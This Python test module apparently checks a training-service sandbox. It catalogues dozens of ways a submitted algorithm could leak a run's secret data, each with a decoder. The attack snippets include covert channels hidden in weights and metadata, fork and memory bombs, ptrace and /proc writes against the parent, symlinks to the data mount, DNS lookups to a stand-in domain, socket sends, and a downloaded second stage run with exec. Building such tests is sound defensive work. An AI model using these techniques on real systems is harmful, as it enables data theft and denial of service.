# ruff: noqa: E501 - programs in a table
"""Algorithms that try to take footage along: each is honest training with one way out built in, and its own decoder.

The secret of a run are forty bytes drawn for it, hidden in what the loader delivers (the last column of the
descriptors). An attack is a few lines that run inside `train` (they see `job`, `s` the secret, `out` the weights about
to be handed in) or inside `evaluate` (they see `job` and `r`, its answer). A decoder gets all that the buyer receives
and says what it takes for the secret. Start at `ATTACKS`.
"""

from __future__ import annotations

import io
import re
import struct
import zipfile
from collections.abc import Callable, Mapping, Sequence
from contextlib import suppress
from dataclasses import dataclass, field

import numpy as np

SECRET_BYTES, HIDDEN = 40, 64
WIDTH = 5


@dataclass
class Received:
    """Everything the buyer gets to see of one run, and what listeners outside heard."""

    files: Mapping[str, bytes] = field(default_factory=dict)
    words: str = ""  # receipt, reasons, metrics
    metrics: Mapping[str, float] = field(default_factory=dict)
    exit: int | None = None  # the status itself, where it is told
    seconds: float | None = None  # how long, as exactly as it is told
    log: bytes = b""
    heard: bytes = b""
    used: int | None = None  # seconds of footage, as told
    charged: int = 0
    state: str = ""

    @property
    def everything(self) -> bytes:
        listed = [
            part for name, data in self.files.items() for part in (name.encode("utf-8", "replace"), *opened(data))
        ]
        return b"\n".join([*listed, self.words.encode(), self.log, self.heard])

    def floats(self, name: str = "h", kind: str = "<f4") -> np.ndarray:
        """A tensor of the file of weights; empty when there is none."""
        data = self.files.get("adapter.safetensors", b"")
        if len(data) < 8:
            return np.zeros(0, kind)
        size = struct.unpack("<Q", data[:8])[0]
        found = re.search(rb'"%s":\{[^}]*"data_offsets":\[(\d+),(\d+)\]' % name.encode(), data[8 : 8 + size])
        if found is None:
            return np.zeros(0, kind)
        begin, end = (8 + size + int(one) for one in found.groups())
        size = np.dtype(kind).itemsize
        return np.frombuffer(data[begin:end][: (end - begin) // size * size], kind)


def opened(data: bytes) -> list[bytes]:
    """Bytes, and what is in them when they are an archive: names, contents, and arrays as bytes of the secret."""
    found = [data]
    if data[:2] == b"PK":
        with suppress(Exception), zipfile.ZipFile(io.BytesIO(data)) as archive:
            for name in archive.namelist()[:50]:
                with archive.open(name) as file:
                    found += [name.encode(), file.read(1 << 20)]
        with suppress(Exception), np.load(io.BytesIO(data)) as arrays:
            for array in arrays.values():
                if array.ndim == 2 and array.shape[1] == WIDTH:
                    found.append(np.rint(array[:, 4] * 255).astype("u1").tobytes())
                found.append(array.astype("u1").tobytes())
    return found


Decoder = Callable[[Received], bytes]


def verbatim(got: Received) -> bytes:
    """Whatever stands there in the clear is found by the general search."""
    del got
    return b""


@dataclass(frozen=True)
class Attack:
    """One way out."""

    name: str
    train: str = ""
    evaluate: str = ""
    decode: Decoder = verbatim
    at_the_peer: bool = True  # whether it can be tried on a machine without limits
    files: Mapping[str, bytes] = field(default_factory=dict)
    purse_us: int = 10**12

    @property
    def is_silent(self) -> bool:
        """Whether the run goes on as if nothing had been: several such ways out fit into one run."""
        is_plain = not self.evaluate and self.decode is verbatim and self.purse_us == 10**12
        return (
            is_plain
            and self.at_the_peer
            and not re.search(r"out\[|out\.|malan_inside|job\.|Exit|_exit|kill|os\.write\(3|\(2, 400", self.train)
        )


def together(attacks: Sequence[Attack]) -> Attack:
    """Several ways out in one run, one after the other."""
    tries = "\n".join(
        "try:\n" + "\n".join(f"    {line}" for line in one.train.splitlines()) + "\nexcept Exception: pass"
        for one in attacks
    )
    return Attack("; ".join(one.name for one in attacks), tries)


def program(attack: Attack) -> bytes:
    """The source of an algorithm with this attack in it."""
    return (
        _SOURCE.replace("#TRAIN#", _indented(attack.train)).replace("#EVALUATE#", _indented(attack.evaluate)).encode()
    )


def _indented(body: str) -> str:
    return "\n".join(f"        {line}" for line in (body.strip() or "pass").splitlines())


_SOURCE = """
import ctypes, json, os, socket, struct, subprocess, sys, time
import numpy as np

OUT = os.environ.get("LEAK_OUT", "/tmp")
HEAR = json.loads(os.environ.get("LEAK_HEAR", "") or open("/code/hear.json").read())

def secret(job):
    rows = job.data.take(list(range(len(job.data))))["descriptor_ND"]
    return bytes(np.rint(rows[:, 4] * 255).astype("u1").tolist())

def learn(job):
    w, b = np.zeros((2, 5), "f4"), np.zeros(2, "f4")
    for epoch in range(3):
        for batch in job.data.batches(8, shuffle=True, epoch=epoch):
            x, y = batch["descriptor_ND"] * [1, 1, 1, 1, 0], np.eye(2, dtype="f4")[batch["label_N"]]
            p = np.exp(x @ w.T + b); p /= p.sum(1, keepdims=True)
            w -= 0.5 * (p - y).T @ x / len(x); b -= 0.5 * (p - y).mean(0)
    return w.astype("f4"), b.astype("f4")

def everything_quiet(job, s, out):
    try:
#TRAIN#
    except Exception:
        pass
    return out

def train(job):
    s = secret(job)
    w, b = learn(job)
    return everything_quiet(job, s, {"w": w, "b": b, "h": np.zeros(64, "f4")})

def evaluate(job, weights):
    w, b = (weights["w"], weights["b"]) if weights is not None else (np.zeros((2, 5), "f4"), np.zeros(2, "f4"))
    dead = weights["h"] if weights is not None else None
    losses, outputs = [], []
    for batch in job.held_out.batches(8):
        x = batch["descriptor_ND"] * [1, 1, 1, 1, 0]
        p = np.exp(x @ w.T + b); p /= p.sum(1, keepdims=True)
        losses.append(-np.log(p[np.arange(len(x)), batch["label_N"]])); outputs.append(p)
    losses, outputs = np.concatenate(losses), np.concatenate(outputs)
    if weights is not None:
        job.metrics({"accuracy": float((losses < np.log(2)).mean())})
    r = {"losses": losses, "outputs": outputs}
    s = bytes(np.abs(dead).astype("u1")[:40]) if dead is not None else b"?" * 40
    try:
#EVALUATE#
    except Exception:
        pass
    return r

def call(number, *arguments):
    libc = ctypes.CDLL(None, use_errno=True)
    return libc.syscall(number, *arguments)

def put(name, data):
    with open(os.path.join(OUT, name), "wb") as file:
        file.write(data)
"""


# Decoders


def low_byte(got: Received) -> bytes:
    return bytes(got.floats().view("<u4")[:SECRET_BYTES].astype("u1")) if got.floats().size else b""


def between_one_and_two(got: Received) -> bytes:
    values = np.nan_to_num(got.floats()[:SECRET_BYTES])
    return bytes(np.clip(np.rint((values - 1) * 255), 0, 255).astype("u1"))


def two_bits_each(got: Received) -> bytes:
    levels = np.clip(np.rint((np.nan_to_num(got.floats()) - 1) * 4), 0, 3).astype("u1")
    return bytes(int(sum(levels[4 * n + k] << (2 * k) for k in range(4))) for n in range(levels.size // 4))


def sign_bits(got: Received) -> bytes:
    return bytes(np.packbits(np.signbit(got.floats()))[:8])


def exponents(got: Received) -> bytes:
    values = got.floats()[:SECRET_BYTES]
    with np.errstate(divide="ignore"):
        found = -np.log2(np.abs(values.astype("f8"))) - 10
    return bytes(np.clip(np.nan_to_num(np.rint(found), nan=0, posinf=0, neginf=0), 0, 255).astype("u1"))


def by_size(got: Received) -> bytes:
    values = np.nan_to_num(got.floats()[:SECRET_BYTES].astype("f8") / 1e30)
    return bytes(np.clip(np.rint(values), 0, 255).astype("u1"))


def in_the_answer(got: Received) -> bytes:
    values = got.floats("w")[4::5]
    return bytes(np.clip(np.rint(values * 255), 0, 255).astype("u1"))


def shape(got: Received) -> bytes:
    found = re.search(rb'"h":\{[^}]*"shape":\[(\d+),(\d+)\]', got.files.get("adapter.safetensors", b""))
    return bytes([int(found[1]) & 255, int(found[2]) - 1 & 255]) if found else b""


def percents(got: Received) -> bytes:
    told = {int(one) for one in re.findall(rb"^(\d{1,2})$", got.log, re.MULTILINE)}
    return bytes(sum(1 << k for k in range(8) if 8 * n + k in told) for n in range(12)) if told else b""


def status(got: Received) -> bytes:
    return b"" if got.exit is None else bytes([got.exit & 255])


def duration(got: Received) -> bytes:
    return b"" if got.seconds is None else bytes([min(255, max(0, round((got.seconds % 60) / 0.004)))])


def digits(got: Received) -> bytes:
    text = f"{float(got.metrics.get('accuracy', 0)):.17f}"[2:]
    return bytes(int(text[3 * n : 3 * n + 3]) & 255 for n in range(5))


SECONDS_OF_AN_HONEST_RUN = 800


def wide(got: Received) -> bytes:
    values = got.floats("h", "<f8")[:SECRET_BYTES]
    return bytes(np.clip(np.rint((np.nan_to_num(values) - 0.5) * 2.0**40), 0, 255).astype("u1"))


def beside_the_answers(got: Received) -> bytes:
    with suppress(Exception):
        values = np.load(io.BytesIO(got.files["evaluation.npy"])).ravel()[:SECRET_BYTES]
        return bytes(np.clip(np.floor(values), 0, 255).astype("u1"))
    return b""


def amount(got: Received) -> bytes:
    return b"" if got.used is None else bytes([(got.used // 200 - SECONDS_OF_AN_HONEST_RUN // 200) & 255])


_RAW = "from malan_inside import frames as F\nsend = lambda b: os.write(4, b)\n"
_LOUD = "sys.stdout.buffer.write(s.hex().encode()); sys.stderr.write(s.hex()); sys.stdout.flush(); sys.stderr.flush()"

ATTACKS = (
    # what the numbers say
    Attack("low bits of weights", "out['h'] = (np.frombuffer(np.random.default_rng(1).bytes(256), '<u4') & 0x3fffff00 "
        "| np.uint32(0x3f000000) | np.pad(np.frombuffer(s, 'u1'), (0, 24)).astype('<u4')).view('<f4')", decode=low_byte),
    Attack("a byte in each of some weights", "out['h'][:40] = 1 + np.frombuffer(s, 'u1') / 255", decode=between_one_and_two),
    Attack("two bits in each of some weights", "for n in range(64): out['h'][n] = 1 + (s[n // 4] >> 2 * (n % 4) & 3) / 4",
        decode=two_bits_each),
    Attack("weights that act", "out['w'][:, 4] = [s[0] / 255, s[1] / 255]", decode=in_the_answer),
    Attack("weights that are the footage", "out['w'] = np.frombuffer(s[:40], '<f4').reshape(2, 5).copy()"),
    Attack("payload of not-a-number", "out['h'] = (np.pad(np.frombuffer(s, 'u1'), (0, 24)).astype('<u4') | "
        "np.uint32(0x7fc00000)).view('<f4')", decode=low_byte),
    Attack("signs of infinity", "out['h'] = np.where(np.unpackbits(np.frombuffer(s[:8], 'u1')), -np.inf, np.inf).astype('f4')",
        decode=sign_bits),
    Attack("tiniest numbers", "out['h'] = np.pad(np.frombuffer(s, 'u1'), (0, 24)).astype('<u4').view('<f4')", decode=low_byte),
    Attack("signs of zero", "out['h'] = np.where(np.unpackbits(np.frombuffer(s[:8], 'u1')), -0.0, 0.0).astype('f4')",
        decode=sign_bits),
    Attack("exponents of tiny numbers", "out['h'][:40] = 2.0 ** -(10.0 + np.frombuffer(s, 'u1') % 64)", decode=exponents),
    Attack("numbers without measure", "out['h'][:40] = np.frombuffer(s, 'u1') * np.float32(1e30)", decode=by_size),
    Attack("wider floats than are kept", "out['h'] = (np.float64(0.5) + np.pad(np.frombuffer(s, 'u1'), (0, 24)) * 2.0 ** -40)",
        decode=wide),
    # names, shapes, kinds
    Attack("an extra tensor", "out['secret'] = np.frombuffer(s, '<f4')"),
    Attack("an extra tensor's name", "out[s.hex()] = np.zeros(1, 'f4')"),
    Attack("a renamed tensor", "out['h' + s.hex()] = out.pop('h')"),
    Attack("a tensor without size", "out[s.hex()] = np.zeros(0, 'f4')"),
    Attack("a shape", "out['h'] = np.zeros((s[0], s[1] + 1), 'f4')", decode=shape),
    Attack("a turned tensor", "out['w'] = out['w'].T.copy()"),
    Attack("another kind of number", "out['h'] = np.resize(np.frombuffer(s, '<i4'), 64)"),
    Attack("a missing tensor", "out.pop('h') if s[0] & 1 else out.pop('b')"),
    Attack("a name of sixty kilobytes", "out[s.hex() * 700] = np.zeros(1, 'f4')"),
    Attack("a name with control signs", "out['\\x1b]0;' + s.hex() + '\\x07'] = np.zeros(1, 'f4')"),
    Attack("five thousand tensors", "out.update({f'{s.hex()}{n}': np.zeros(1, 'f4') for n in range(5000)})"),
    Attack("objects among the arrays", "out['h'] = np.array([s], dtype=object)"),
    # the line for results, written by hand
    Attack("an undeclared result", "import malan_inside; malan_inside.put('note', s)"),
    Attack("a pickle where weights are due", "import pickle, malan_inside; malan_inside.put('model', pickle.dumps(s))"),
    Attack("an archive where weights are due", "import io, zipfile, malan_inside; f = io.BytesIO()\n"
        "z = zipfile.ZipFile(f, 'w'); z.writestr(s.hex(), s); z.close(); malan_inside.put('model', f.getvalue())"),
    Attack("a header that says more", _RAW + "send(F.header({'name': 'model', 'arrays': [], 'note': s.hex()}))"),
    Attack("a header of a terabyte", _RAW + "send(F.header({'name': 'model', 'arrays': [['h', '<f4', [2**38]]]}))"),
    Attack("overlapping tensors", _RAW + "send(F.header({'name': 'model', 'arrays': [['h', '<f4', [64]], ['h', '<f4', [64]]]}))"
        "; send(s * 13)"),
    Attack("bytes that are no line", _RAW + "send(s * 100)"),
    Attack("a checkpoint", "job.checkpoint({'s': np.frombuffer(s, 'u1').copy()})"),
    Attack("percents", "import malan_inside\nfor n in range(0, 100): (s[n // 8] >> n % 8) & 1 and malan_inside.progress(n / 100)", decode=percents),
    # figures
    Attack("a figure's name", "job.metrics({s.hex(): 1.0})"),
    Attack("a figure's digits", "out['h'][:40] = np.frombuffer(s, 'u1')",
        "job.said['accuracy'] = float('0.' + ''.join(f'{b:03}' for b in s[:5])) if dead is not None else 0", decode=digits),
    Attack("a figure that is none", "job.metrics({'accuracy': float('nan')})"),
    Attack("a figure that is a text", "import malan_inside; malan_inside.put_numbers('metrics', {'accuracy': 1.0, s.hex(): 2})"),
    Attack("losses and outputs", "out['h'][:40] = np.frombuffer(s, 'u1')", "r['outputs'] = r['outputs'] + np.resize("
        "np.frombuffer(s, 'u1'), r['outputs'].shape)", decode=beside_the_answers),
    # how it ends
    Attack("the exit status", "os._exit(s[0])", decode=status),
    Attack("a signal", "os.kill(os.getpid(), 9 if s[0] & 1 else 15)", decode=status),
    Attack("how long it takes", "time.sleep(s[0] * 0.004)", decode=duration),
    Attack("which limit is hit", "s[0] & 1 and bytearray(2 << 30)\nwhile s[0] & 2: os.write(1, b'x' * 65536)", at_the_peer=False),
    Attack("what it prints", _LOUD),
    Attack("what an error says", "raise SystemExit(s.hex())"),
    Attack("a warning", "import warnings; warnings.warn(s.hex())"),
    Attack("how much it asks for", "for n in range(s[0]): job.data.take(list(range(40)), epoch=9 + n)", decode=amount),
    # files
    Attack("a file", "put('footage.bin', s)"),
    Attack("files everywhere", "for place in ('/tmp', '/', '/code', '/dev/shm', '/var/tmp', os.getcwd()):\n    try: "
        "open(place + '/footage.bin', 'wb').write(s)\n    except OSError: pass"),
    Attack("a file's name", "put(s.hex(), b'')"),
    Attack("an archive bomb", "import zipfile; z = zipfile.ZipFile(OUT + '/a.zip', 'w', zipfile.ZIP_DEFLATED)\n"
        "z.writestr('a', bytes(9 << 20)); z.writestr('s', s); z.close()"),
    Attack("a symbolic link", "put('t', s); os.symlink('t', OUT + '/adapter2.safetensors')"),
    Attack("a link to the data", "os.symlink('/mnt/data' if os.path.exists('/mnt/data') else '/code', OUT + '/all')\n"
        "os.symlink('/mnt/data/data.npz', OUT + '/one')"),
    Attack("a hard link", "put('t', s); os.link(OUT + '/t', OUT + '/u')"),
    Attack("a device", "put('t', s); os.mknod(OUT + '/d', 0o60666, os.makedev(8, 0))"),
    Attack("a pipe with a name", "os.mkfifo(OUT + '/' + s.hex())"),
    Attack("a sparse file", "f = open(OUT + '/sparse', 'wb'); f.seek(1 << 30); f.write(s); f.close()", at_the_peer=False),
    Attack("a file's time", "put('t', b''); os.utime(OUT + '/t', (0, int.from_bytes(s[:4], 'big')))\nput('m', s[:4])"),
    Attack("an extended attribute", "put('x', b''); os.setxattr(OUT + '/x', 'user.s', s); put('y', os.getxattr(OUT + '/x', 'user.s'))"),
    # the machine
    Attack("processes without end", "while True: os.fork()", at_the_peer=False),
    Attack("memory without end", "held = []\nwhile True: held.append(bytearray(64 << 20))", at_the_peer=False),
    Attack("a process that stays", "if os.fork() == 0:\n    os.setsid()\n    time.sleep(0.3); put('late', s); os._exit(0)"),
    Attack("a trace of the parent", "call(101, 16, os.getppid(), 0, 0); call(101, 4, os.getppid(), 0, int.from_bytes(s[:8], 'big'))",
        at_the_peer=False),
    Attack("/proc of the parent", "for n in (1, os.getppid(), os.getpid()):\n    for name in ('environ', 'mem', 'fd', 'comm', 'cmdline'):\n"
        "        try: open(f'/proc/{n}/{name}', 'wb').write(s)\n        except OSError: pass"),
    Attack("signals to others", "for n in range(2, 400):\n    try: os.kill(n, 0)\n    except OSError: pass"),
    Attack("io_uring", "call(425, 8, (ctypes.c_char * 120)())"),
    Attack("a memory file that is run", "fd = call(319, b's', 0); os.write(fd, open(sys.executable, 'rb').read()); "
        "os.execve(fd, ['x', '-c', 'print(1)'], {})", at_the_peer=False),
    Attack("shared memory of the system", "n = call(29, HEAR['key'], 4096, 0o1666); n < 0 and 1 / 0"
        "\nlibc = ctypes.CDLL(None); libc.shmat.restype = ctypes.c_void_p; ctypes.memmove(libc.shmat(n, None, 0), s, 40)"),
    Attack("a message queue", "n = call(68, HEAR['key'], 0o1666); call(69, n, (ctypes.c_long(1), s), 40, 0)"),
    Attack("the name of the process", "call(157, 15, s[:15], 0, 0, 0)"),
    Attack("the name of the machine", "socket.sethostname(s.hex())"),
    # the network
    Attack("a look-up of a name", "socket.getaddrinfo(s.hex()[:60] + '.malan.invalid', 80)"),
    Attack("a datagram to a name server", "k = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); k.sendto(s, ('127.0.0.1', HEAR['udp']))"),
    Attack("a connection", "k = socket.create_connection(('127.0.0.1', HEAR['tcp']), 1); k.sendall(s)"),
    Attack("an abstract socket", "k = socket.socket(socket.AF_UNIX); k.connect('\\0' + HEAR['abstract']); k.sendall(s)"),
    Attack("a local socket", "k = socket.socket(socket.AF_UNIX); k.connect(HEAR['path']); k.sendall(s)"),
    Attack("netlink and vsock", "for f in (16, 40, 17, 38):\n    try: socket.socket(f, socket.SOCK_RAW).send(s)\n    except OSError: pass"),
    # a second stage
    Attack("a second stage, downloaded", "import urllib.request; exec(urllib.request.urlopen('http://127.0.0.1:%d/' % HEAR['tcp'], "
        "timeout=1, data=s).read())"),
    Attack("a second stage, written and run", "put('run', open(sys.executable, 'rb').read()); os.chmod(OUT + '/run', 0o755)\n"
        "subprocess.run([OUT + '/run', '-c', 'open(%r, \"wb\").write(%r)' % (OUT + '/footage.bin', s)])"),
    Attack("a second stage, imported", "import pip"),
    Attack("a second stage, from the weights", "exec(compile('put(\"stage\", s)', s.hex(), 'exec'))"),
    # the loader and its meter
    Attack("a request that goes backwards", "list(job.data.batches(8, repeats=-5)); put('more', s)"),
    Attack("a request with a meter of its own", "job.data._ask(do='take', of='data', clips=[0], deliver=['descriptor'], counted=-10**9)"),
    Attack("what it is held against", "job.data._ask(do='take', of='held_out', clips=[0], deliver=['descriptor'])"),
    Attack("a request of a megabyte", "os.write(3, struct.pack('<I', 1 << 20) + s * 26000)"),
    Attack("more than is granted", "for n in range(200): job.data.take(list(range(40)), epoch=n)", purse_us=4 * 200 * 10**6),
)  # fmt: skip
"""Every way out that is tried; what they have in common is that a run with one of them must not pay."""


def recovered(attack: Attack, got: Received, secret: bytes) -> int:
    """How many bytes of the secret the buyer has: by the attack's own decoder, or standing anywhere in the clear.

    A few bytes agree by chance (one in 256): up to two of sixteen or more count as none.
    """
    said = attack.decode(got)[:SECRET_BYTES]
    same = sum(one == other for one, other in zip(said, secret, strict=False))
    by_decoder = 0 if len(said) >= 16 and same <= 2 else same
    return max(by_decoder, in_the_clear(got.everything, secret))


def in_the_clear(blob: bytes, secret: bytes) -> int:
    """The longest stretch of the secret of four bytes or more: as it is, backwards, in hexadecimal."""
    ways = ((blob, secret, 1), (blob, secret[::-1], 1), (blob.lower(), secret.hex().encode(), 2))
    return max(_longest(where, what, unit) for where, what, unit in ways)


def _longest(blob: bytes, what: bytes, unit: int) -> int:
    whole = len(what) // unit
    for size in range(whole, 3, -1):
        if any(what[unit * at : unit * (at + size)] in blob for at in range(whole - size + 1)):
            return size
    return 0
